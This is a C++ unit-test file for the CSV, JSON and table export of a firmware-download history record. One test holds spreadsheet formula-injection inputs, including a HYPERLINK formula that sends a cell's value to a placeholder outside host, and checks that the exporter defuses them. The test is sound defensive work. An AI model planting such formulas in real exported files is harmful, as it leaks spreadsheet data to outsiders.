// The record read back: CSV a spreadsheet opens, JSON with typed values, a table a person reads.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "history_format.h"

namespace romlift::record {
namespace {

DownloadRow Tricky() {
    DownloadRow r;
    r.id = 7;
    r.rowKey = "1b4e28ba-2fa1-41d2-883f-0016d3cca427";
    r.startedUtc = "2026-12-09T09:50:54.123Z";
    r.endedUtc = "2026-12-09T09:51:55.357Z";
    r.durationMs = 61234;
    r.host = "bench-3";
    r.user = "ana";
    r.program = "romlift-cli";
    r.version = "1.0.1";
    r.port = "COM3";
    r.device = "/dev/ttyUSB0";
    r.adapter = "0403:6001 serial A50285BI";
    r.model = "VX7R-10";
    r.typeCode = 10;
    r.imagePath = "/fw/a,\"b\"\n\xff.abs";  // comma, quotes, newline, a byte that is not UTF-8
    r.imageSize = 1234;
    r.imageSha256 = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    r.framesConfirmed = 3;
    r.framesTotal = 25;
    r.outcome = Outcome::Interrupted;
    r.statusText = "Port COM3 went away";
    r.station = "L2";
    r.operatorName = "O'Brien";
    return r;
}

TEST(HistoryFormatTest, CsvQuotesWhatNeedsItAndEndsLinesInCrLf) {
    DownloadRow pushed = Tricky();
    pushed.pushedUtc = "2026-12-10T07:00:00.000Z";
    EXPECT_EQ(
        HistoryCsv({pushed}),
        "id,started_utc,ended_utc,duration_ms,host,user,program,version,port,device,adapter,"
        "model,type_code,image_path,image_size,image_sha256,image_xor,frames_confirmed,"
        "frames_total,outcome,status_text,station,operator,row_key,run_id,ended_at,unit_serial,lot,"
        "release_list_sha256,release_key,pushed_utc\r\n"
        "7,2026-12-09T09:50:54.123Z,2026-12-09T09:51:55.357Z,61234,bench-3,ana,romlift-cli,"
        "1.0.1,COM3,/dev/ttyUSB0,0403:6001 serial A50285BI,VX7R-10,10,"
        "\"/fw/a,\"\"b\"\"\n\xff.abs\",1234,"
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad,,3,25,interrupted,"
        "Port COM3 went away,L2,O'Brien,1b4e28ba-2fa1-41d2-883f-0016d3cca427,,,,,,,"
        "2026-12-10T07:00:00.000Z\r\n");
}

// Text a spreadsheet would run as a formula is written as text, still quoted as RFC 4180 asks;
// other text and numbers (a negative one among them) stay as they are.
TEST(HistoryFormatTest, CsvCellsThatWouldBeFormulasAreText) {
    DownloadRow r = Tricky();
    r.operatorName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")";
    r.station = "+1";
    r.statusText = "-2+3";
    r.imagePath = "@SUM(A1:A9)";
    r.host = "\t=1";
    r.user = "\r=1";
    r.adapter = "a=1";
    r.durationMs = -5;
    const std::string csv = HistoryCsv({r});
    const std::string line = csv.substr(csv.find("\r\n") + 2);
    EXPECT_EQ(line,
              "7,2026-12-09T09:50:54.123Z,2026-12-09T09:51:55.357Z,-5,'\t=1,\"'\r=1\","
              "romlift-cli,1.0.1,COM3,/dev/ttyUSB0,a=1,VX7R-10,10,'@SUM(A1:A9),1234,"
              "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad,,3,25,interrupted,"
              "'-2+3,'+1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Open\"\")\","
              "1b4e28ba-2fa1-41d2-883f-0016d3cca427,,,,,,,\r\n");
}

TEST(HistoryFormatTest, JsonKeepsTypesAndSurvivesBytesThatAreNotUtf8) {
    DownloadRow withXor = Tricky();
    withXor.imageXor = 0;
    withXor.pushedUtc = "2026-12-10T07:00:00.000Z";
    const auto j = nlohmann::json::parse(HistoryJson({Tricky(), withXor}));
    ASSERT_EQ(j.size(), 2u);
    EXPECT_EQ(j[0].size(), ColumnNames().size());
    EXPECT_TRUE(j[0]["image_xor"].is_null());
    EXPECT_EQ(j[1]["image_xor"], 0);
    EXPECT_TRUE(j[0]["pushed_utc"].is_null());
    EXPECT_EQ(j[1]["pushed_utc"], "2026-12-10T07:00:00.000Z");
    EXPECT_EQ(j[0]["duration_ms"], 61234);
    EXPECT_EQ(j[0]["frames_total"], 25);
    EXPECT_EQ(j[0]["outcome"], "interrupted");
    EXPECT_EQ(j[0]["image_path"], "/fw/a,\"b\"\n\xEF\xBF\xBD.abs");
    EXPECT_EQ(HistoryJson({}), "[]\n");
}

TEST(HistoryFormatTest, TableLinesUpColumns) {
    DownloadRow other = Tricky();
    other.port = "/dev/ttyUSB12";
    other.outcome = Outcome::Confirmed;
    other.framesConfirmed = 25;
    EXPECT_EQ(HistoryTable({Tricky(), other}),
              "STARTED (UTC)             PORT           MODEL    OUTCOME      FRAMES  STATION  "
              "OPERATOR  IMAGE\n"
              "2026-12-09T09:50:54.123Z  COM3           VX7R-10  interrupted  3/25    L2       "
              "O'Brien   a,\"b\" \xff.abs ba7816bf8f01\n"
              "2026-12-09T09:50:54.123Z  /dev/ttyUSB12  VX7R-10  confirmed    25/25   L2       "
              "O'Brien   a,\"b\" \xff.abs ba7816bf8f01\n");
    EXPECT_EQ(HistoryTable({}), "");
}

}  // namespace
}  // namespace romlift::record
